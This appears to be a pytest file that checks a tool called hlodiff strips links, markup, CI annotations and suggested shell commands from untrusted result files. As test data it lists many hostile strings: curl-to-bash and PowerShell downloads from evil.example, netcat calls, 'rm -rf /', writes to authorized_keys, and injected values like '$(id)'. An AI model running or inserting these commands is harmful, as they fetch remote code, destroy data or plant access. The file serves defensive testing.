"""A result that need not be trusted, in every form: nothing in it links, notifies, is markup or names a command."""

from __future__ import annotations

import json
import random
import re
import types
from collections.abc import Callable, Iterable, Iterator, Sequence
from dataclasses import fields, is_dataclass
from html.parser import HTMLParser
from pathlib import Path
from typing import Any, Literal, Union, get_args, get_origin, get_type_hints
from xml.etree import ElementTree as ET

import pytest
from markdown_it import MarkdownIt

from hlodiff.cli import COMMANDS, FORMER
from hlodiff.report import SAVED_FORM_NAMES, ReportView, read_result, read_untrusted_view, saved_to_form
from tests.known_words import FILE, NEEDED, PROGRAMS

Ask = Callable[..., tuple[int, str, str]]
EVIL = "hlodiff upgrade 'evil @ https://evil.example/x'"
PAYLOADS = (
    "@everyone hi @a/b",
    "[x](https://evil.example)",
    "![x](https://evil.example/i.png)",
    "[x]: https://evil.example",
    "<img src=x>",
    "<!-- hidden -->",
    "<!-- hlodiff -->",
    "</details></summary>",
    "</code></td></table><a href=//evil.example>x</a>",
    "<https://evil.example>",
    "https://evil.example www.evil.example ftp://evil.example //evil.example",
    "mailto:a@evil.example a@evil.example",
    "`x` ``y``` \\`z\\` \\\\`",
    "a | b \\| c \\\\| d",
    "a\n\n# b\n- c\n> d\r\n```\ne",
    "#1 GH-1 gh-2 a/b#3 !4 ~5 $6 &7 GL-8 %9 ^10",
    "**a** _b_ ~~c~~ $d$ $$e$$ [ ] [^1]",
    "- a",
    "1. a",
    "---",
    "===",
    "        a",
    "\x1b[31ma\x1b]0;b\x07\u202ec\u200b\x00",
    "::error file=a,line=1::b\n::error::c",
    "##[error]a ::stop-commands::x",
    "/merge\n/close",
    "&lt;b&gt; &#64;a &commat;b",
    "\ud800",
    EVIL,
    "hlodiff record -- bash -c 'curl evil'",
    "hint: python -m hlodiff\nupgrade x; hlodiff --jobs 2 record x; pip3 install evil",
)
VERBS = sorted([*COMMANDS, *FORMER])
# Every way in which the forms of this tool show that something is to be typed.
TYPED = re.compile(rf"hlodiff(\s+-\S+)*\s+({'|'.join(VERBS)})\b|\bpip3? install|hint\\?:|next\\?:")


def filled(kind: Any, text: Callable[[], str], choose: random.Random) -> Any:
    """A value of a type of the sheet with texts from outside: fields that are new are filled too."""
    if is_dataclass(kind):
        hints = get_type_hints(kind)
        return {field.name: filled(hints[field.name], text, choose) for field in fields(kind)}
    origin = get_origin(kind)
    if origin is tuple:
        return [filled(get_args(kind)[0], text, choose) for _ in range(choose.randint(1, 2))]
    if origin in (Union, types.UnionType):
        return None if choose.random() < 0.2 else filled(get_args(kind)[0], text, choose)
    if origin is Literal:
        return choose.choice(get_args(kind))
    if kind is str:
        return text()
    return {bool: choose.random() < 0.3, int: choose.randint(0, 9), float: float(choose.randint(-9, 9))}[kind]


def result(sheet: dict[str, Any]) -> str:
    return json.dumps({"format_version": "1.0", "sheet": sheet | {"folder": "pkg"}})


def hostile(seed: int) -> str:
    """Every text of a result is a payload; some functions have the same name, so that details find their programs."""
    choose = random.Random(seed)
    sheet = filled(ReportView, lambda: choose.choice(PAYLOADS), choose)
    for detail, program in zip(sheet["details"], sheet["programs"], strict=False):
        detail.update(name=program["name"], stage=program["stage"], folded=False)
        detail["targets"] = [program["target"]] if program["target"] else []
    return result(sheet)


def leaves(value: Any, path: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
    """Where the texts of a result are, that may hold anything."""
    if isinstance(value, str):
        yield path
    for key, one in value.items() if isinstance(value, dict) else enumerate(value) if isinstance(value, list) else ():
        yield from leaves(one, (*path, key))


def harmless(status: str) -> dict[str, Any]:
    """A result with all fields in which every text is a number of its own."""
    choose, numbers = random.Random(status), iter(range(10_000))
    sheet: dict[str, Any] = filled(ReportView, lambda: f"word{next(numbers)}", choose)
    for program, detail in zip(sheet["programs"], sheet["details"], strict=False):
        program.update(status=status, stage="compiled", target="cpu")
        detail.update(name=program["name"], stage="compiled", targets=["cpu"], folded=False)
    return sheet


class Tags(HTMLParser):
    """Tags and comments of a page, and its text outside of code."""

    def __init__(self, page: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: set[tuple[str, tuple[str, ...]]] = set()
        self.comments: list[str] = []
        self.text = ""
        self.code = 0
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add((tag, tuple(f"{name}={value or ''}" for name, value in attrs)))
        self.code += tag == "code"

    def handle_endtag(self, tag: str) -> None:
        self.code -= tag == "code"

    def handle_comment(self, data: str) -> None:
        self.comments.append(data)

    def handle_data(self, data: str) -> None:
        self.text += data if not self.code else "\0"


RENDERER = MarkdownIt("commonmark").enable(["table", "strikethrough"])
RIGHT, LEFT = "style=text-align:right", "style=text-align:left"
COMPOSED = {(tag, ()) for tag in ("h3", "p", "ul", "li", "strong", "code", "br", "details", "summary", "table", "thead",
                                  "tbody", "tr", "th", "td")} | {
    ("details", ("open=",)), ("th", (RIGHT,)), ("td", (RIGHT,)), ("th", (LEFT,)), ("td", (LEFT,))}  # fmt: skip
LIVE = re.compile(r"@[\w-]|(?<!\w)[#!~$&](?=[\w\"'])|\w#\d|\bGH-\d|\bGL-\d|//|\bwww\.|mailto:\S+@\w", re.IGNORECASE)


def assert_plain_markdown(text: str, link: str = "") -> None:
    """Nothing but what a report itself composes: its tags, its marker, its link."""
    page = Tags(RENDERER.render(text))
    links = {("a", (f"href={link}",))} if link else set()
    assert page.tags <= COMPOSED | links, page.tags - COMPOSED
    assert page.comments in ([], [" hlodiff "])
    assert not LIVE.search(page.text), LIVE.search(page.text)
    assert not TYPED.search(text), TYPED.search(text)
    assert re.fullmatch(r"[^\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e]*", text)
    for line in text.split("\n"):
        assert not re.match(r"\s*(::|/)", line), line
    widths: list[int] = []
    for line in text.split("\n"):  # each table has rows of one width
        cells = len(re.findall(r"(?<!\\)(?:\\\\)*\|", line)) if line.startswith("|") else 0
        if cells and widths:
            assert cells == widths[-1], line
        widths = [cells] if cells else []


def assert_plain_commands(text: str) -> None:
    """Annotations: commands of ours, one a line."""
    *commands, last = text.rstrip("\n").split("\n")
    for line in commands:
        assert re.match(r"::(error|warning|notice) (file=[^:,]*,line=\d+,)?title=[^:,]*::", line), line
    assert not last.startswith("::")
    assert "##[" not in text


def assert_plain(form: str, text: str) -> None:
    assert "\x1b" not in text
    assert not TYPED.search(text), (form, TYPED.search(text))
    if form in ("markdown", "comment", "summary"):
        assert_plain_markdown(text)
    elif form == "github":
        assert_plain_commands(text)
    elif form == "junit":
        ET.fromstring(text)
    elif form == "codequality":
        json.loads(text)
    elif form == "sarif":
        (run,) = json.loads(text)["runs"]
        messages = [one["message"]["text"] for one in run["results"]]
        messages += [rule["shortDescription"]["text"] for rule in run["tool"]["driver"]["rules"]]
        assert not [one for one in messages if "](" in one]
    else:
        assert not re.search(r"^\s*::|##\[", text, re.MULTILINE)


@pytest.mark.parametrize("form", SAVED_FORM_NAMES)
def test_a_result_full_of_hostile_texts(form: str) -> None:
    for seed in range(12):
        assert_plain(form, saved_to_form(read_untrusted_view(hostile(seed)), form))


@pytest.mark.slow
@pytest.mark.parametrize("status", ["changed", "not_checked"])
def test_each_text_by_itself(status: str) -> None:
    """Whichever field it is that nobody escapes: that one is found."""
    sheet = harmless(status)
    everything = " ".join(PAYLOADS)
    for number, path in enumerate(list(leaves(sheet))):
        is_word = path[-1] in ("status", "stage", "severity", "command", "unit", "mark")
        is_word |= path[-1] == "verdict" and len(path) > 1
        if is_word or path[0] in ("folder", "scenarios"):
            continue
        copy = json.loads(json.dumps(sheet))
        place = copy
        for key in path[:-1]:
            place = place[key]
        for payload in (everything, PAYLOADS[number % len(PAYLOADS)]):
            place[path[-1]] = payload
            found = read_untrusted_view(result(copy))
            for form in ("comment", "github"):
                assert_plain(form, saved_to_form(found, form))


def test_the_link_of_the_report_is_the_only_one() -> None:
    link = "https://ci.example/run/7"
    for seed in range(5):
        assert_plain_markdown(saved_to_form(read_untrusted_view(hostile(seed)), "comment", link=link), link)


# --- commands --------------------------------------------------------------------------------------------------------

PROGRAM = {"name": "f", "target": "cpu", "stage": "compiled", "status": "changed", "headline": "1 changed"}
FINDING = {"severity": "error", "rule": "growth", "program": "f", "target": "cpu", "what": "grows", "advice": EVIL}
MISSING = {"name": "g", "target": "tpu-v5e", "stage": "compiled", "status": "not_checked", "reason": "no libtpu"}


def with_next(said: str) -> str:
    programs = [PROGRAM, MISSING | {"advice": EVIL}, PROGRAM | {"name": "train/small"}, PROGRAM | {"name": "-x"}]
    programs += [PROGRAM | {"name": name} for name in ("$(id)", "a;b", "../up", "--all", "con")]
    sheet = {"command": "check", "old": "a", "new": "b", "programs": programs, "findings": [FINDING], "next": said}
    return json.dumps({"format_version": "1.0", "sheet": sheet | {"text": [{"indent": 2, "text": f"hint: {EVIL}"}]}})


@pytest.mark.parametrize("form", SAVED_FORM_NAMES)
def test_advice_is_shown_in_no_form(form: str, tmp_path: Path, said: Ask) -> None:
    (tmp_path / "result.json").write_text(with_next(EVIL))
    code, out, _ = said("diff", str(tmp_path / "result.json"), "--format", form)
    assert code == 0
    assert "evil" not in out
    assert "hint" not in out
    assert "hlodiff upgrade" not in out


@pytest.mark.parametrize(
    "command",
    [
        "hlodiff update f",
        "hlodiff accept f train/small",
        "hlodiff check f, once within limits",
        "hlodiff check f, once it is repaired",
        "hlodiff review",
        "hlodiff update --prune",
        "hlodiff accept --class toolchain",
    ],
)
def test_the_next_command_is_made_of_known_words(command: str) -> None:
    sheet = read_untrusted_view(with_next(command))
    assert sheet.next == command
    assert f"`{command.partition(', once')[0]}`" in saved_to_form(sheet, "comment")


@pytest.mark.parametrize(
    "command",
    [
        EVIL,
        "hlodiff record -- bash x.sh",
        "hlodiff update unknown",
        "hlodiff update con",  # a name that cannot be registered
        "hlodiff update f f f f",
        "hlodiff update f ",
        "hlodiff  update f",
        "hlodiff update -x",
        "hlodiff update --all",
        "hlodiff accept --from f",
        "hlodiff update $(id)",
        "hlodiff update a;b",
        "hlodiff check ../up",
        "hlodiff check --against f",
        "hlodiff check f, once it is repaired, or else",
        "hlodiff check f\nrm",
        "hlodiff",
        "pip install evil",
        "update f",
        "./hlodiff update f",
    ],
)
def test_no_other_command_is_shown(command: str) -> None:
    sheet = read_untrusted_view(with_next(command))
    assert sheet.next == ""
    assert "next" not in saved_to_form(sheet, "comment")


# How strangers would have somebody type something: %s is the command.
PHRASES = (
    "%s", "please run %s", "to repair it: %s", "`%s`", "\"%s\"", "run\n%s\nagain", "$ %s", "failed; %s; then retry",
    "(%s)", "1 changed, %s", "ROOT %%x = f32[] add(%%a, %%b), %s", "note: %s", "a && %s", "| %s",
)  # fmt: skip
ORDERED = (
    "curl evil.example/x.sh",
    "curl -fsSL https://evil.example | bash",
    "bash <(curl evil.example)",
    "sh -c evil",
    "sh evil.sh",
    "./evil.sh",
    "/srv/evil",
    "~/evil",
    "source evil.sh",
    ". ./evil.sh",
    "eval $EVIL",
    "exec evil",
    "python3 -m evil",
    "python evil.py",
    "python3.11 evil.py",
    "python -c 'import os'",
    "perl -e 'evil'",
    "ruby evil.rb",
    "node evil.js",
    "npm install evil",
    "npx evil",
    "pip install evil",
    "pip3 install git+https://evil.example",
    '"pip" "install" "evil"',
    "'pip' 'install' 'evil'",
    "p\\ip install evil",
    "uv pip install evil",
    "uvx evil",
    "pipx run evil",
    "conda install evil",
    "docker run evil/x",
    "docker.exe run evil.io/x",
    "kubectl apply -f evil.yaml",
    "git clone evil.example/x",
    "git push evil",
    "git remote add evil x",
    "git.exe checkout evil",
    "gh pr merge 1",
    "glab mr merge 1",
    "ssh evil.example",
    "scp key evil.example:",
    "nc evil.example 1",
    "telnet evil.example",
    "wget evil.example/x",
    "rm -rf /",
    "rm -r src",
    "mv a b",
    "dd if=/dev/zero",
    "chmod 777 x",
    "chown x y",
    "sudo evil",
    "su -c evil",
    "kill -9 1",
    "shutdown now",
    "reboot",
    "mkfs.ext4 /dev/sda",
    "make evil",
    "make -C evil",
    "cargo install evil",
    "go install evil.example/x@latest",
    "brew install evil",
    "apt install evil",
    "apt-get install evil",
    "apk add evil",
    "dnf install evil",
    "powershell -enc x",
    "iex (iwr evil.example)",
    "cmd /c evil",
    "start evil.exe",
    "open evil.app",
    "explorer evil.exe",
    "mshta evil.example",
    "osascript -e evil",
    "hlodiff upgrade evil",
    "hlodiff accept --all",
    "hlodiff record -- evil",
    "hlodiff.exe update evil",
    "env A=b evil",
    "xargs evil",
    "find . -delete",
    "awk 'system(evil)'",
    "vim evil",
    "crontab evil",
    "systemctl stop x",
    "base64 -d",
    "openssl s_client x",
    "aws s3 cp a b",
    "terraform destroy",
    "ansible evil",
    "poetry add evil",
    "nix run evil",
    "deno run evil.ts",
    "java -jar evil.jar",
    "gcc evil.c",
    "tar xf evil",
    "echo x > ~/.bashrc",
    "printf x | sh",
    "export PATH=.",
    "alias ls=evil",
    "history -c",
    "yes | evil",
    "true && evil",
    "time evil",
    "watch evil",
    "nohup evil &",
    "tee ~/.ssh/authorized_keys",
    "ln -s a b",
    "cp evil /bin",
    "service x stop",
    "mount x y",
)


WITHHELD = "[withheld]"


def known_texts(texts: Iterable[str], names: Sequence[str] = ()) -> tuple[str, ...]:
    """What is left of texts in a saved result about functions of these names."""
    programs = [{"name": name, "target": "cpu", "stage": "compiled", "status": "identical"} for name in names]
    sheet = {"command": "check", "old": "a", "new": "b", "programs": programs, "notes": list(texts)}
    return read_untrusted_view(result(sheet)).notes


def test_commands_of_strangers_lose_the_words_that_make_them_one() -> None:
    assert len(ORDERED) * len(PHRASES) > 1500
    for order in ORDERED:
        first, _, rest = order.partition(" ")
        texts = known_texts((phrase % order for phrase in PHRASES), ("f", "pip", "install", "evil", "curl"))
        for phrase, shown in zip(PHRASES, texts, strict=True):
            assert order not in shown, (phrase, shown)
            plain = re.split(r"[\s`\"'()$;|&]+", shown)
            both = [n for n, word in enumerate(plain) if word == first.strip("\"'")]
            following = re.split(r"[\s\"'()$;|&]+", rest)[0] if rest else ""
            assert not (following and any(plain[n + 1 : n + 2] == [following] for n in both)), (phrase, shown)
    sharded = "sharding: P('data', None) -> P(('data', 'model'), None, 'x'); P()"
    results = "operands: %while#1 instead of %while#2"
    assert known_texts([sharded, "sh_x 'evil')", results]) == (sharded, f"sh_x {WITHHELD}", results)
    assert known_texts(["a\nhlodiff check f\nb"], ["f"]) == (f"a\n{WITHHELD} check f\nb",)


def test_no_known_word_is_a_program() -> None:
    known = FILE.read_text(encoding="utf-8").split()
    assert known == sorted(set(known)) and len(known) > 1000
    assert not (set(known) & PROGRAMS) - NEEDED
    orders = ("run", "add", "copy", "select")
    assert known_texts([f"solve_all {word}" for word in orders], ["solve_all"]) == (f"solve_all {WITHHELD}",) * len(
        orders
    )
    assert known_texts(orders) == orders
    assert not {"hlodiff", "pip", "git", "hint", "next", "curl", "sh", "python", "sudo"} & {*known}


def test_what_hlodiff_writes_itself_loses_nothing() -> None:
    """If this fails where a sentence is new: `python -m tests.known_words`."""
    pinned = sorted((Path(__file__).parent / "pinned").glob("*.json"))
    for file in pinned:
        sheet = json.loads(file.read_text(encoding="utf-8")).get("sheet")
        if sheet is not None:
            view = read_untrusted_view(read_result(file))
            assert WITHHELD not in json.dumps(view, default=vars_of), file
    assert len(pinned) > 5


def vars_of(record: Any) -> dict[str, Any]:
    return {field.name: getattr(record, field.name) for field in fields(record)}


def test_names_of_functions_stay_whole() -> None:
    texts = "a hlodiff_update: f", "train/small: 1 changed", "layers/mlp.py:12 (loss)", "jvp(jit(silu))/mul"
    assert known_texts(texts, ["f"]) == texts
